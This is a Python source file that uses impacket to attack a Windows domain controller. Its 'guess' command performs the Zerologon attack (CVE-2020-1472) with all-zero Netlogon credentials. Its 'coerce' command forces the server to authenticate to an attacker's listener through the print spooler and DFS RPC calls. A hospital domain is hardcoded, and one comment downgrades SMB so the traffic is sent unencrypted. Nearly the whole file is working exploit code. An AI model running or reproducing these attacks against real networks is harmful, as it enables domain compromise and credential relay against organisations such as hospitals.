"""Calls to a directory server that only an intruder makes (impacket): guesses at its secret, forced log-ins.

guess    tries to prove the server's own account with a credential of zeros (CVE-2020-1472)
coerce   asks the server to log in elsewhere, by its printing and its file-system services
"""

from __future__ import annotations

import argparse

from impacket.dcerpc.v5 import epm, nrpc, rprn, transport
from impacket.dcerpc.v5.dtypes import DWORD, LPWSTR, ULONG, WSTR
from impacket.dcerpc.v5.ndr import NDRCALL
from impacket.smb3structs import SMB2_DIALECT_21
from impacket.uuid import uuidtup_to_bin

_DFS = uuidtup_to_bin(("4fc742e0-4a10-11cf-8273-00aa004ae673", "3.0"))


class NetrDfsRemoveStdRoot(NDRCALL):  # [MS-DFSNM] 3.1.4.4.2
    opnum = 13
    structure = (("ServerName", WSTR), ("RootShare", WSTR), ("ApiFlags", DWORD))


class NetrDfsRemoveStdRootResponse(NDRCALL):
    structure = (("ErrorCode", ULONG),)


def guess(to: str, name: str, times: int) -> None:
    binding = epm.hept_map(to, nrpc.MSRPC_UUID_NRPC, protocol="ncacn_ip_tcp")
    call = transport.DCERPCTransportFactory(binding).get_dce_rpc()
    call.connect()
    call.bind(nrpc.MSRPC_UUID_NRPC)
    for n in range(times):
        nrpc.hNetrServerReqChallenge(call, f"\\\\{name}\0", f"{name}\0", b"\0" * 8)
        try:
            nrpc.hNetrServerAuthenticate3(
                call, f"\\\\{name}\0", f"{name}$\0",
                nrpc.NETLOGON_SECURE_CHANNEL_TYPE.ServerSecureChannel, f"{name}\0", b"\0" * 8, 0x212FFFFF,
            )  # fmt: skip
            print("came in after", n + 1)
            return
        except Exception as refused:
            print(n + 1, refused)
    call.disconnect()


def _pipe(to: str, pipe: str, user: str, password: str, interface: bytes):
    line = transport.DCERPCTransportFactory(rf"ncacn_np:{to}[\pipe\{pipe}]")
    line.preferred_dialect(SMB2_DIALECT_21)  # in clear: with SMB 3 impacket encrypts, and nobody could see it
    line.set_credentials(user, password, "HOSPITAL")
    call = line.get_dce_rpc()
    call.connect()
    call.bind(interface)
    return call


def coerce(to: str, user: str, password: str, listener: str) -> None:
    try:
        call = _pipe(to, "spoolss", user, password, rprn.MSRPC_UUID_RPRN)
        handle = rprn.hRpcOpenPrinter(call, f"\\\\{to}\0")
        ask = rprn.RpcRemoteFindFirstPrinterChangeNotificationEx()
        ask["hPrinter"] = handle["pHandle"]
        ask["fdwFlags"] = rprn.PRINTER_CHANGE_ADD_JOB
        ask["pszLocalMachine"] = f"\\\\{listener}\0"
        ask["pOptions"] = LPWSTR()
        call.request(ask)
    except Exception as refused:
        print("printing:", refused)
    try:
        call = _pipe(to, "netdfs", user, password, _DFS)
        ask = NetrDfsRemoveStdRoot()
        ask["ServerName"] = f"{listener}\0"
        ask["RootShare"] = "share\0"
        ask["ApiFlags"] = 1
        call.request(ask)
    except Exception as refused:
        print("file system:", refused)


def main() -> None:
    parser = argparse.ArgumentParser()
    parser.add_argument("what", choices=("guess", "coerce"))
    parser.add_argument("--to", required=True)
    parser.add_argument("--name", default="DC1")
    parser.add_argument("--times", type=int, default=40)
    parser.add_argument("--user", default="")
    parser.add_argument("--password", default="")
    parser.add_argument("--listener", default="")
    told = parser.parse_args()
    if told.what == "guess":
        guess(told.to, told.name, told.times)
    else:
        coerce(told.to, told.user, told.password, told.listener)


if __name__ == "__main__":
    main()
